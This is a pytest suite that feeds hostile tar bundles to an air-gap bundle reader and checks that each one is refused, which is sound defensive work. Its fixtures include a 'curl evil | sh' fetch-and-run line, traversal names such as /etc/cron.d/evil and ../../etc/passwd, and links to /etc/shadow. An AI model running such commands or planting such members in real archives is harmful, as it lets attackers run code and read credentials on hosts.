"""The bundle reader against hostile bundles: each test is an attack or a fault, and what stops it.

Every refusal is checked the same way (``refused``): the reason code, a message naming the member or value,
nothing written anywhere but scratch, and scratch left empty. The bundles are real tars with real
signatures; a full scratch disk is a real tmpfs.
"""

from __future__ import annotations

import base64
import gzip
import hashlib
import json
import os
import shutil
import subprocess
import tarfile
from collections.abc import Iterator, Sequence
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest

from ansible_collections.meridian.node.plugins.module_utils.airgap.bundle_reader import (
    MAX_EXTENDED_HEADER_BYTES,
    BundleProblem,
    BundleRefused,
    check_bundle,
    unpack_bundle,
)
from ansible_collections.meridian.node.plugins.module_utils.airgap.bundle_refused import Reason
from ansible_collections.meridian.node.plugins.module_utils.airgap.runbook import listed_runbook
from ansible_collections.meridian.node.plugins.module_utils.contracts import format_rfc3339
from ansible_collections.meridian.node.plugins.module_utils.trust.verify import AppliedState, RejectionCode
from ansible_collections.meridian.node.tests.support.bundle_fixtures import (
    ARTIFACT,
    AUTHORITY,
    AUTHORITY_2,
    CONFIG,
    CONTROL,
    WEIGHTS,
    Member,
    Site,
    bundle_json,
    good_bundle,
    listed,
    make_site,
    rebuilt_bundle,
    regular,
    snapshot,
    write_tar,
)
from ansible_collections.meridian.node.tests.support.trust_fixtures import (
    NODE_ID,
    NOW,
    artifact_manifest,
    desired_state,
    envelope,
)

FRESH = AppliedState()
DATA = b"playbook bytes\n"
PLAY = "playbooks/site.yml"
COLLECTION = "collection/meridian-node-1.0.0.tar.gz"
COLLECTION_DATA = b"collection bytes"


@pytest.fixture
def site(tmp_path: Path) -> Site:
    return make_site(tmp_path)


def listing() -> list[dict[str, object]]:
    return [listed(PLAY, DATA), listed(COLLECTION, COLLECTION_DATA)]


def members() -> list[Member]:
    return [regular(PLAY, DATA), regular(COLLECTION, COLLECTION_DATA)]


def hostile(site: Site, body: Sequence[Member], envelope: bytes | None = None) -> Path:
    """A tar whose first member is a signed bundle.json (listing ``listing()`` unless given), then ``body``."""
    head = regular("bundle.json", bundle_json(listing()) if envelope is None else envelope)
    return write_tar(site.root / "hostile.tar", [head, *body])


def unpack(site: Site, path: Path, applied: AppliedState = FRESH) -> object:
    return unpack_bundle(str(path), site.policy, node_id=NODE_ID, now=NOW, applied=applied)


def refused(site: Site, path: Path, reason: Reason, applied: AppliedState = FRESH) -> BundleRefused:
    """Unpack ``path`` expecting ``reason``; nothing outside scratch changes and scratch is left empty."""
    before = snapshot(site.root, skip=site.scratch)
    with pytest.raises(BundleRefused) as caught:
        unpack(site, path, applied)
    assert caught.value.reason is reason, caught.value.message
    assert snapshot(site.root, skip=site.scratch) == before
    assert not site.scratch.exists() or list(site.scratch.iterdir()) == []
    if reason not in (BundleProblem.SCRATCH, BundleProblem.SCRATCH_FULL):
        # Checking without unpacking (no scratch at all) reaches the same verdict.
        with pytest.raises(BundleRefused) as checked:
            check_bundle(str(path), site.policy, node_id=NODE_ID, now=NOW, applied=applied)
        assert checked.value.reason is reason
    return caught.value


# --- the good bundle ---------------------------------------------------------------------------------------


def test_a_bundle_made_by_make_bundle_unpacks_into_scratch_by_its_listed_paths(site: Site) -> None:
    path = good_bundle(site)
    unpacked = unpack_bundle(str(path), site.policy, node_id=NODE_ID, now=NOW, applied=FRESH)
    assert Path(unpacked.directory).parent == site.scratch
    files = {name: Path(location).read_bytes() for name, location in unpacked.files.items()}
    assert files["artifacts/tiny-model/1.0.0/files/weights.bin"] == WEIGHTS
    assert files["artifacts/tiny-model/1.0.0/files/config.json"] == CONFIG
    assert files["playbooks/site.yml"].startswith(b"- hosts: localhost")
    assert set(files) == {entry.path for entry in unpacked.verified.bundle.files}
    assert all(Path(location).is_relative_to(Path(unpacked.directory) / "tree") for location in unpacked.files.values())
    assert [m.manifest.name for m in unpacked.manifests] == ["tiny-model"]
    assert unpacked.verified.desired.state.generation == 2
    assert unpacked.bytes_read == sum(entry.size for entry in unpacked.verified.bundle.files)
    unpacked.discard()
    assert list(site.scratch.iterdir()) == []


def test_checking_a_bundle_reads_every_member_and_writes_nothing(site: Site) -> None:
    path = good_bundle(site)
    before = snapshot(site.root, skip=site.root / "nothing-skipped")
    check = check_bundle(str(path), site.policy, node_id=NODE_ID, now=NOW, applied=FRESH)
    assert check.bytes_read == len(WEIGHTS) + len(CONFIG) + sum(
        entry.size for entry in check.verified.bundle.files if not entry.path.startswith("artifacts/tiny-model/1.0.0/f")
    )
    assert snapshot(site.root, skip=site.root / "nothing-skipped") == before


def test_gnu_format_tar_of_the_same_members_is_accepted(site: Site) -> None:
    body = [regular("bundle.json", bundle_json(listing())), *members()]
    path = write_tar(site.root / "gnu.tar", body, tar_format=tarfile.GNU_FORMAT)
    check = check_bundle(str(path), site.policy, node_id=NODE_ID, now=NOW, applied=FRESH)
    assert check.bytes_read == len(DATA) + len(COLLECTION_DATA)


# --- member paths ------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "words"),
    [
        ("/etc/cron.d/evil", "an absolute path"),
        ("playbooks/../../etc/passwd", "'..' component"),
        ("playbooks/./site.yml", "'.' component"),
        ("playbooks//site.yml", "empty or '.' component"),
        ("playbooks\\site.yml", "backslash"),
    ],
)
def test_member_with_an_unsafe_path_is_refused_before_its_data_is_read(site: Site, name: str, words: str) -> None:
    error = refused(site, hostile(site, [regular(name, DATA), *members()]), BundleProblem.UNSAFE_PATH)
    assert words in error.message and error.member == name


def test_two_listed_paths_that_are_one_file_on_a_case_insensitive_disk_are_refused(site: Site) -> None:
    files = [*listing(), listed("playbooks/Site.yml", DATA)]
    path = hostile(site, [*members(), regular("playbooks/Site.yml", DATA)], bundle_json(files))
    error = refused(site, path, RejectionCode.SCHEMA)
    assert "name the same file on some filesystems" in error.message


def test_member_named_in_another_unicode_form_is_not_the_listed_one(site: Site) -> None:
    files = [listed("playbooks/caf\u00e9.yml", DATA), listed(COLLECTION, COLLECTION_DATA)]
    body = [regular("playbooks/cafe\u0301.yml", DATA), regular(COLLECTION, COLLECTION_DATA)]
    refused(site, hostile(site, body, bundle_json(files)), BundleProblem.UNLISTED)


# --- member types ------------------------------------------------------------------------------------------


def _special(name: str, kind: bytes, linkname: str = "") -> tuple[tarfile.TarInfo, None]:
    info = tarfile.TarInfo(name)
    info.type = kind
    info.linkname = linkname
    info.devmajor = info.devminor = 1
    return info, None


@pytest.mark.parametrize(
    ("kind", "words"),
    [
        (tarfile.SYMTYPE, "a symbolic link to '/etc/shadow'"),
        (tarfile.LNKTYPE, "a hard link to '/etc/shadow'"),
        (tarfile.CHRTYPE, "a character device"),
        (tarfile.BLKTYPE, "a block device"),
        (tarfile.FIFOTYPE, "a FIFO"),
        (tarfile.DIRTYPE, "a directory"),
    ],
    ids=["symlink", "hardlink", "chardev", "blockdev", "fifo", "directory"],
)
def test_member_that_is_not_a_regular_file_is_refused(site: Site, kind: bytes, words: str) -> None:
    body = [_special(PLAY, kind, "/etc/shadow"), regular(COLLECTION, COLLECTION_DATA)]
    error = refused(site, hostile(site, body), BundleProblem.NOT_REGULAR)
    assert words in error.message


def test_sparse_member_is_refused(site: Site) -> None:
    # GNU's old sparse form: a header with type 'S' whose data is the file's non-hole parts.
    info, _ = regular(PLAY, DATA)
    info.type = tarfile.GNUTYPE_SPARSE
    path = write_tar(
        site.root / "sparse.tar",
        [regular("bundle.json", bundle_json(listing())), (info, DATA), regular(COLLECTION, COLLECTION_DATA)],
        tar_format=tarfile.GNU_FORMAT,
    )
    error = refused(site, path, BundleProblem.NOT_REGULAR)
    assert "a sparse file" in error.message


def test_pax_sparse_member_is_refused(site: Site) -> None:
    info, _ = regular(PLAY, DATA)
    info.pax_headers = {
        "GNU.sparse.major": "1",
        "GNU.sparse.minor": "0",
        "GNU.sparse.name": PLAY,
        "GNU.sparse.realsize": str(len(DATA)),
    }
    # Format 1.0 keeps the sparse map at the start of the data: one region covering the whole file.
    sparse_map = f"1\n0\n{len(DATA)}\n".encode().ljust(512, b"\0")
    info.size = len(sparse_map) + len(DATA)
    error = refused(
        site,
        hostile(site, [(info, sparse_map + DATA), regular(COLLECTION, COLLECTION_DATA)]),
        BundleProblem.NOT_REGULAR,
    )
    assert "a sparse file" in error.message


# --- the listing -------------------------------------------------------------------------------------------


def test_member_not_listed_in_bundle_json_is_refused_unread(site: Site) -> None:
    error = refused(site, hostile(site, [*members(), regular("playbooks/extra.yml", DATA)]), BundleProblem.UNLISTED)
    assert error.member == "playbooks/extra.yml"


def test_member_listed_but_missing_from_the_tar_is_refused(site: Site) -> None:
    error = refused(site, hostile(site, [regular(PLAY, DATA)]), BundleProblem.MISSING)
    assert error.member == COLLECTION


def test_member_appearing_twice_in_the_tar_is_refused(site: Site) -> None:
    error = refused(site, hostile(site, [*members(), regular(PLAY, b"second content")]), BundleProblem.DUPLICATE)
    assert "appears twice" in error.message


def test_a_second_bundle_json_in_the_tar_is_refused(site: Site) -> None:
    body = [*members(), regular("bundle.json", bundle_json([]))]
    refused(site, hostile(site, body), BundleProblem.DUPLICATE)


def test_member_listed_twice_in_bundle_json_is_a_schema_error(site: Site) -> None:
    path = hostile(site, members(), bundle_json([*listing(), listed(PLAY, DATA)]))
    error = refused(site, path, RejectionCode.SCHEMA)
    assert "name the same file" in error.message


def test_member_with_other_bytes_than_listed_is_refused(site: Site) -> None:
    tampered = b"playbook BYTES\n"  # same size, one byte of case different
    error = refused(
        site,
        hostile(site, [regular(PLAY, tampered), regular(COLLECTION, COLLECTION_DATA)]),
        BundleProblem.DIGEST_MISMATCH,
    )
    assert hashlib.sha256(tampered).hexdigest() in error.message


def test_member_longer_than_listed_is_refused_at_its_header(site: Site) -> None:
    longer = DATA + b"- hosts: all\n  tasks: [{shell: 'curl evil | sh'}]\n"
    error = refused(
        site, hostile(site, [regular(PLAY, longer), regular(COLLECTION, COLLECTION_DATA)]), BundleProblem.SIZE_MISMATCH
    )
    assert f"is {len(longer)} bytes in the tar, bundle.json lists {len(DATA)}" in error.message


def test_bundle_json_not_first_is_refused_before_anything_is_read(site: Site) -> None:
    path = write_tar(site.root / "late.tar", [*members(), regular("bundle.json", bundle_json(listing()))])
    error = refused(site, path, BundleProblem.ENVELOPE_NOT_FIRST)
    assert error.member == PLAY


# --- tar bombs ---------------------------------------------------------------------------------------------


def test_listing_beyond_the_byte_cap_is_refused_before_any_member_is_read(tmp_path: Path) -> None:
    site = make_site(tmp_path, air_gap={"max_bytes": 1000})
    huge = {"path": "collection/x.tar.gz", "size": 10**12, "sha256": "ab" * 32}
    path = hostile(site, members(), bundle_json([listed(PLAY, DATA), huge]))
    error = refused(site, path, BundleProblem.TOO_LARGE)
    assert "more than air_gap.max_bytes 1000" in error.message


def test_listing_more_members_than_the_cap_is_refused(tmp_path: Path) -> None:
    site = make_site(tmp_path, air_gap={"max_members": 3})
    files = [listed(f"playbooks/{index}.yml", DATA) for index in range(4)] + [listed(COLLECTION, COLLECTION_DATA)]
    error = refused(site, hostile(site, members(), bundle_json(files)), BundleProblem.TOO_LARGE)
    assert "lists 5 members, more than air_gap.max_members 3" in error.message


def test_huge_pax_header_is_refused_before_tarfile_reads_it(site: Site) -> None:
    info, _ = regular(PLAY, DATA)
    info.pax_headers = {"comment": "x" * (MAX_EXTENDED_HEADER_BYTES + 1)}
    error = refused(site, hostile(site, [(info, DATA), regular(COLLECTION, COLLECTION_DATA)]), BundleProblem.TOO_LARGE)
    assert "extended tar header" in error.message


def test_gzip_compressed_bundle_is_not_a_tar(site: Site) -> None:
    plain = good_bundle(site)
    packed = site.root / "good.tar.gz"
    packed.write_bytes(gzip.compress(plain.read_bytes()))
    refused(site, packed, BundleProblem.NOT_A_TAR)


def test_a_gzip_file_whose_bytes_look_like_a_huge_extended_header_is_still_not_a_tar(site: Site) -> None:
    # Compressed bytes are arbitrary: about one gzip file in seventy has an extended-header type at offset 156
    # (the typeflag's place) and a size field beyond the cap. Without a valid header checksum it is no header.
    data = bytearray(gzip.compress(good_bundle(site).read_bytes()))
    data[156:157] = b"x"
    data[124:136] = b"\xff" * 12
    data[148:156] = b"0000000\0"  # a checksum field that parses, with the wrong value
    forged = site.root / "forged.tar.gz"
    forged.write_bytes(bytes(data))
    refused(site, forged, BundleProblem.NOT_A_TAR)


# --- damaged files -----------------------------------------------------------------------------------------


def _cut(path: Path, size: int) -> Path:
    out = path.with_name("cut-" + path.name)
    out.write_bytes(path.read_bytes()[:size])
    return out


def test_bundle_cut_inside_a_member_is_truncated(site: Site) -> None:
    path = good_bundle(site)
    data = path.read_bytes()
    error = refused(site, _cut(path, data.index(WEIGHTS[:64]) + 100), BundleProblem.TRUNCATED)
    assert "weights.bin" in error.message


def test_bundle_cut_after_its_last_member_without_the_end_marker_is_truncated(site: Site) -> None:
    path = good_bundle(site)
    data = path.read_bytes()
    end = len(data.rstrip(b"\0"))
    cut = -(-end // 512) * 512  # the last member's data, padded to its block, and nothing after
    error = refused(site, _cut(path, cut), BundleProblem.TRUNCATED)
    assert "end-of-archive marker" in error.message


def test_bundle_with_bytes_appended_is_refused(site: Site) -> None:
    path = good_bundle(site)
    with path.open("ab") as handle:
        handle.write(b"#!/bin/sh\ncurl evil | sh\n")
    error = refused(site, path, BundleProblem.TRAILING_DATA)
    assert "non-zero bytes" in error.message


def test_member_hidden_after_the_end_marker_is_refused(site: Site) -> None:
    path = good_bundle(site)
    hidden = site.root / "hidden.tar"
    write_tar(hidden, [regular("playbooks/evil.yml", b"- hosts: all\n")])
    path.write_bytes(path.read_bytes() + hidden.read_bytes())
    refused(site, path, BundleProblem.TRAILING_DATA)


# --- bundle.json's signatures and rules -----------------------------------------------------------------


def test_bundle_json_signed_by_a_control_key_is_refused(site: Site) -> None:
    error = refused(
        site, hostile(site, members(), bundle_json(listing(), authority=[CONTROL])), RejectionCode.THRESHOLD_NOT_MET
    )
    assert error.message.startswith("bundle.json: ")


def test_bundle_json_below_the_authority_threshold_is_refused(tmp_path: Path) -> None:
    site = make_site(tmp_path, authority_threshold=2)
    path = hostile(site, members(), bundle_json(listing(), authority=[AUTHORITY]))
    error = refused(site, path, RejectionCode.THRESHOLD_NOT_MET)
    assert "2 distinct air_gap_authority key(s) must sign this document, 1 did" in error.message
    both = hostile(site, members(), bundle_json(listing(), authority=[AUTHORITY, AUTHORITY_2]))
    assert check_bundle(str(both), site.policy, node_id=NODE_ID, now=NOW, applied=FRESH).bytes_read


def test_bundle_for_another_node_is_refused(site: Site) -> None:
    path = hostile(site, members(), bundle_json(listing(), node_id="gpu-node-2"))
    assert "is for node 'gpu-node-2'" in refused(site, path, RejectionCode.WRONG_NODE).message


def test_expired_bundle_is_refused(site: Site) -> None:
    path = hostile(site, members(), bundle_json(listing(), expires_at=format_rfc3339(NOW - timedelta(seconds=1))))
    assert "ask the site's authority for a fresh bundle" in refused(site, path, RejectionCode.EXPIRED).message


def test_bundle_of_an_older_generation_is_refused(site: Site) -> None:
    path = hostile(site, members(), bundle_json(listing()))
    error = refused(site, path, RejectionCode.REPLAYED, AppliedState(3, 1, "0" * 64))
    assert "lower than the applied generation 3" in error.message


def test_bundle_whose_generation_is_not_its_states_is_refused(site: Site) -> None:
    path = hostile(site, members(), bundle_json(listing(), generation=7))
    assert "carries desired state generation 2" in refused(site, path, RejectionCode.SCHEMA).message


def test_state_inside_signed_by_the_authority_instead_of_control_is_refused(site: Site) -> None:
    path = hostile(site, members(), bundle_json(listing(), state_keys=[AUTHORITY]))
    error = refused(site, path, RejectionCode.THRESHOLD_NOT_MET)
    assert "the desired state inside bundle 'bundle-1'" in error.message


def test_state_inside_for_another_node_is_refused(site: Site) -> None:
    path = hostile(site, members(), bundle_json(listing(), state=desired_state(generation=2, node_id="gpu-node-2")))
    refused(site, path, RejectionCode.WRONG_NODE)


# --- artifacts ---------------------------------------------------------------------------------------------


def test_artifact_file_the_manifest_does_not_list_is_refused(site: Site) -> None:
    extra = b"not in the manifest"
    name = "artifacts/tiny-model/1.0.0/files/extra.bin"

    def add(payload: dict[str, Any], body: list[Member]) -> None:
        payload["files"].append(listed(name, extra))
        body.append(regular(name, extra))

    error = refused(site, rebuilt_bundle(site, add), BundleProblem.ARTIFACT)
    assert "extra.bin is not in tiny-model 1.0.0's manifest" in error.message


def test_artifact_manifest_signed_by_the_authority_is_refused(site: Site) -> None:
    forged = json.dumps(envelope("artifact-manifest", artifact_manifest(name="tiny-model"), [AUTHORITY])).encode()
    name = "artifacts/tiny-model/1.0.0/manifest.json"

    def swap(payload: dict[str, Any], body: list[Member]) -> None:
        payload["files"] = [listed(name, forged) if entry["path"] == name else entry for entry in payload["files"]]
        body[:] = [regular(name, forged) if info.name == name else (info, data) for info, data in body]

    error = refused(site, rebuilt_bundle(site, swap), RejectionCode.THRESHOLD_NOT_MET)
    assert error.message.startswith(name) and error.member == name


def test_artifact_files_without_their_manifest_are_refused(site: Site) -> None:
    name = "artifacts/tiny-model/1.0.0/manifest.json"

    def drop(payload: dict[str, Any], body: list[Member]) -> None:
        payload["files"] = [entry for entry in payload["files"] if entry["path"] != name]
        body[:] = [(info, data) for info, data in body if info.name != name]

    assert (
        "holds files but no manifest.json" in refused(site, rebuilt_bundle(site, drop), BundleProblem.ARTIFACT).message
    )


def test_an_artifact_manifest_other_than_the_one_the_state_pins_is_refused_before_anything_is_staged(
    site: Site,
) -> None:
    # Everything inside is consistent and signed by the artifact keys: other weights, their manifest, the
    # listing. Only control's state pins another manifest for tiny-model 1.0.0, and that is what decides.
    evil = b"weights control never asked for\n"
    manifest = "artifacts/tiny-model/1.0.0/manifest.json"
    weights = "artifacts/tiny-model/1.0.0/files/weights.bin"
    other = artifact_manifest(
        name="tiny-model",
        version="1.0.0",
        files=[listed("weights.bin", evil), listed("config.json", CONFIG)],
    )
    other_envelope = json.dumps(envelope("artifact-manifest", other, [ARTIFACT])).encode()
    replaced = {manifest: other_envelope, weights: evil}

    def swap(payload: dict[str, Any], body: list[Member]) -> None:
        files = payload["files"]
        payload["files"] = [listed(e["path"], replaced[e["path"]]) if e["path"] in replaced else e for e in files]
        body[:] = [regular(info.name, replaced[info.name]) if info.name in replaced else (info, d) for info, d in body]

    error = refused(site, rebuilt_bundle(site, swap), BundleProblem.ARTIFACT)
    assert error.member == manifest
    assert "is not the manifest the desired state pins for tiny-model 1.0.0" in error.message
    assert hashlib.sha256(base64.b64decode(json.loads(other_envelope)["payload"])).hexdigest() in error.message


def test_an_artifact_the_state_does_not_name_is_refused(site: Site) -> None:
    def unpin(payload: dict[str, Any], body: list[Member]) -> None:
        unpinned = desired_state(generation=2, runbook=listed_runbook(payload["files"]))
        payload["desired_state"] = envelope("desired-state", unpinned, [CONTROL])

    error = refused(site, rebuilt_bundle(site, unpin), BundleProblem.ARTIFACT)
    assert "the desired state inside names no artifact tiny-model 1.0.0" in error.message


# --- the file itself and scratch ---------------------------------------------------------------------------


def test_inbox_entry_that_is_a_symlink_is_refused(site: Site) -> None:
    link = site.root / "link.tar"
    link.symlink_to(good_bundle(site))
    assert "symbolic link" in refused(site, link, BundleProblem.NOT_A_FILE).message


def test_inbox_entry_that_is_a_directory_is_refused(site: Site) -> None:
    directory = site.root / "dir.tar"
    directory.mkdir()
    assert "a directory" in refused(site, directory, BundleProblem.NOT_A_FILE).message


def test_inbox_entry_that_is_a_fifo_is_refused_without_blocking(site: Site) -> None:
    fifo = site.root / "fifo.tar"
    os.mkfifo(fifo)
    assert "a FIFO" in refused(site, fifo, BundleProblem.NOT_A_FILE).message


def test_bundle_that_is_not_there_is_unreadable(site: Site) -> None:
    error = refused(site, site.root / "gone.tar", BundleProblem.UNREADABLE)
    assert "No such file or directory" in error.message


def test_scratch_writable_by_others_is_refused(site: Site) -> None:
    site.scratch.mkdir(mode=0o777)
    site.scratch.chmod(0o777)
    error = refused(site, good_bundle(site), BundleProblem.SCRATCH)
    assert "writable by group or others (mode 0777)" in error.message


@pytest.fixture
def small_tmpfs(tmp_path: Path) -> Iterator[Path]:
    """A real 256 KiB tmpfs with room for 6 inodes at ``tmp_path/scratch``; skipped where mount is not allowed."""
    scratch = tmp_path / "scratch"
    scratch.mkdir(mode=0o700)
    mounted = subprocess.run(
        ["mount", "-t", "tmpfs", "-o", "size=256k,nr_inodes=6,mode=0700", "tmpfs", str(scratch)],
        capture_output=True,
        text=True,
        check=False,
    )
    if mounted.returncode != 0:
        shutil.rmtree(scratch)
        pytest.skip(f"cannot mount a tmpfs here ({mounted.stderr.strip()}); the byte cap test covers the limit")
    try:
        yield scratch
    finally:
        subprocess.run(["umount", str(scratch)], check=True)


def test_bundle_larger_than_the_free_scratch_space_is_refused_before_reading(tmp_path: Path, small_tmpfs: Path) -> None:
    site = make_site(tmp_path)
    big = b"\x07" * (512 * 1024)
    files = [listed(PLAY, DATA), listed(COLLECTION, big)]
    path = hostile(site, [regular(PLAY, DATA), regular(COLLECTION, big)], bundle_json(files))
    error = refused(site, path, BundleProblem.SCRATCH_FULL)
    assert "which has" in error.message and str(site.scratch) in error.message


def test_scratch_disk_running_out_while_writing_is_refused_and_cleaned(tmp_path: Path, small_tmpfs: Path) -> None:
    # Few bytes but more files than the tmpfs has inodes: the free-space check passes, a write fails.
    site = make_site(tmp_path)
    names = [f"playbooks/{index}.yml" for index in range(8)]
    files = [listed(name, DATA) for name in names] + [listed(COLLECTION, COLLECTION_DATA)]
    body = [regular(name, DATA) for name in names] + [regular(COLLECTION, COLLECTION_DATA)]
    error = refused(site, hostile(site, body, bundle_json(files)), BundleProblem.SCRATCH_FULL)
    assert "is full" in error.message


def test_reasons_are_exactly_the_documented_ones() -> None:
    documented = (Path(__file__).resolve().parents[4] / "docs" / "AIR_GAP.md").read_text(encoding="utf-8")
    for reason in BundleProblem:
        assert f"`{reason.value}`" in documented, reason
